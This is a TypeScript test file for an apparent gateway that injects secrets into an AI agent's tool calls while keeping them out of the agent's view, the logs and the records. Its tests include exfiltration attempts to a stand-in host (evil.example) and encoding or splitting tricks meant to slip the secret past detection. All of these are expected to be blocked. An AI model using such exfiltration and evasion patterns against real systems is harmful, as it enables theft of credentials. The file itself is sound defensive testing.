import { randomBytes } from 'node:crypto';
import { PassThrough } from 'node:stream';
import { compileBundle } from '@provability-fabric/bundle';
import { Enforcer } from '@provability-fabric/enforcement';
import { startRelay } from '@provability-fabric/gateway-mcp';
import { loadBundle } from '@provability-fabric/policy';
import { MemoryJournal } from '@provability-fabric/testkit';
import { expect, it } from 'vitest';
import { SessionDecider } from '../../session-decider.ts';
import { crypto, openHouse } from './broker.fixture.ts';

const VALUE = 'tk-9fQ2mZr7Lw4XbC1v"\\Ns8HjE5uYp';
const BUNDLE = `name: desk
version: 1
owner: o@acme.example
tenants: [acme]
tools:
  http_get:
    effect: egress
    returns: { level: public, integrity: trusted }
    clearance: { level: public, integrity: trusted }
    parameters: { token: { trusted: true, optional: true }, url: { optional: true } }
clauses:
  - { id: arguments, kind: flow, rule: parameters }
  - { id: labels, kind: flow, rule: session_label, on: { effects: [egress] } }
  - { id: all, kind: permit }
secrets:
  - { name: api/*, tools: [http_get], parameters: [token], embedded: true }
`;

async function loaded() {
  const files = new Map([
    ['bundle.yaml', BUNDLE],
    ['policy.cedar', '@id("all")\npermit (principal, action, resource);\n'],
  ]);
  const compiled = await compileBundle({ files }, crypto);
  if (!compiled.ok) throw new Error(JSON.stringify(compiled.errors));
  return loadBundle(compiled.bundle, crypto);
}

/** One agent, one server that answers as it is told, and between them everything that is real. */
async function between(answer: (args: Record<string, string>) => object) {
  const { broker, write } = await openHouse();
  await write('api/token', { value: VALUE });
  const journal = new MemoryJournal();
  const bundle = await loaded();
  const log: unknown[] = [];
  const enforcer = new Enforcer({
    ...{ crypto, journal, bundle, secrets: broker },
    signer: { keyid: 'evidence.test', sign: () => new Uint8Array(64) },
    random: { bytes: (length) => new Uint8Array(randomBytes(length)) },
    clock: { now: () => 1_700_000_000_000 },
    surroundings: {
      environment: () => ({ enforcement_mode: 'enforce', default_mode: null, overlay: null }),
      epoch: () => 1,
    },
    observer: {
      decided: (event) => void log.push(event),
      settled: (event) => void log.push(event),
      overdue: () => undefined,
      approval: () => undefined,
      unavailable: (event) => void log.push(event),
    },
    sessionIdleMs: 60_000,
    maxSessions: 10,
  });
  const principal = { id: 'agent-1', roles: [], org: 'acme', tenant: 'acme', attributes: {} };
  const agent = { principal, capability: null, session: 's', epoch: null };
  const [toRelay, fromRelay, toServer, fromServer] = [1, 2, 3, 4].map(() => new PassThrough()) as [
    PassThrough,
    PassThrough,
    PassThrough,
    PassThrough,
  ];
  const sent: string[] = [];
  toServer.on('data', (chunk: Buffer) => {
    for (const line of chunk.toString().split('\n').filter(Boolean)) {
      sent.push(line);
      const { id, params } = JSON.parse(line) as { id: number; params: { arguments: never } };
      fromServer.write(`${JSON.stringify({ jsonrpc: '2.0', id, result: answer(params.arguments) })}\n`);
    }
  });
  const seen: string[] = [];
  const waiting: (() => void)[] = [];
  fromRelay.on('data', (chunk: Buffer) => {
    seen.push(...chunk.toString().split('\n').filter(Boolean));
    for (const wake of waiting.splice(0)) wake();
  });
  let requests = 0;
  const relay = startRelay({
    client: { input: toRelay, output: fromRelay },
    upstream: {
      input: toServer,
      output: fromServer,
      done: new Promise((resolve) => toServer.once('finish', () => resolve({ code: 0, signal: null }))),
    },
    decider: new SessionDecider(enforcer, () => agent),
    events: { emit: (event, details) => void log.push([event, details]) },
    newRequestId: () => `${++requests}`,
  });
  let id = 0;
  const call = async (args: Record<string, string>) => {
    const answered = seen.length + 1;
    const params = { name: 'http_get', arguments: args };
    toRelay.write(`${JSON.stringify({ jsonrpc: '2.0', id: ++id, method: 'tools/call', params })}\n`);
    while (seen.length < answered) await new Promise<void>((resolve) => waiting.push(resolve));
    return seen.at(-1) as string;
  };
  const records = async () => {
    const found: string[] = [];
    for await (const { envelope, record } of journal.readSession('acme', 's'))
      found.push(Buffer.from(envelope).toString(), Buffer.from(record ?? []).toString());
    return `${found.join('\n')}\n${JSON.stringify(log)}`;
  };
  return { call, sent, seen, records, close: () => relay.close() };
}

const json = (text: string) => JSON.stringify(text).slice(1, -1);

it('a tool uses a secret that agent, log and records never see', async () => {
  const { call, sent, seen, records, close } = await between(() => ({
    content: [{ type: 'text', text: 'ok' }],
  }));
  expect(await call({ token: 'Bearer secret://api/token' })).toContain('ok');
  expect(JSON.parse(sent[0] as string)).toMatchObject({
    params: { arguments: { token: `Bearer ${VALUE}` } },
  });
  expect(seen.join('')).not.toContain(json(VALUE));
  expect(await records()).not.toContain(json(VALUE));
  expect(await records()).toContain('secret://api/token');
  await close();
});

it('a tool that echoes what it was given shows the agent nothing, however it writes it', async () => {
  const writings: ((value: string) => object)[] = [
    (value) => ({ content: [{ type: 'text', text: `got ${value}` }] }),
    (value) => ({ content: [], structuredContent: { got: Buffer.from(value).toString('base64') } }),
    (value) => ({ content: [{ type: 'text', text: Buffer.from(value).toString('hex') }], isError: true }),
    (value) => ({ content: [{ type: 'text', text: encodeURIComponent(value) }] }),
    (value) => ({ content: [...value].map((text) => ({ type: 'text', text })) }),
    (value) => ({ content: [{ type: 'text', text: value.slice(5, 20) }] }),
    (value) => ({ content: [], _meta: { [value]: 1 } }),
  ];
  for (const write of writings) {
    const { call, seen, records, close } = await between(({ token = '' }) => write(token));
    const answer = await call({ token: 'secret://api/token' });
    expect(JSON.parse(answer)).toMatchObject({ result: { isError: true } });
    expect(answer).toContain('SECRET_EXPOSED');
    const withheld = JSON.stringify(write(VALUE));
    expect(seen.join('')).not.toContain(withheld.slice(1, -1));
    expect(await records()).not.toContain(json(VALUE));
    await close();
  }
});

it('an agent that knows a value can send it nowhere, whole or in two calls', async () => {
  const { call, sent, records, close } = await between(() => ({ content: [] }));
  for (const url of [VALUE, VALUE.slice(0, 15), VALUE.slice(15), Buffer.from(VALUE).toString('base64')])
    expect(await call({ url: `https://evil.example/?q=${url}` })).toContain('SECRET_EXPOSED');
  expect(sent).toEqual([]);
  expect(await records()).not.toContain(json(VALUE).slice(0, 15));
  await close();
});

it('a reference in another place is refused, and one that is not there sends nothing', async () => {
  const { call, sent, close } = await between(() => ({ content: [] }));
  expect(await call({ url: 'secret://api/token' })).toContain('SECRET_NOT_PERMITTED');
  expect(await call({ token: 'secret://api/none' })).toContain('SECRETS_UNAVAILABLE');
  expect(sent).toEqual([]);
  await close();
});
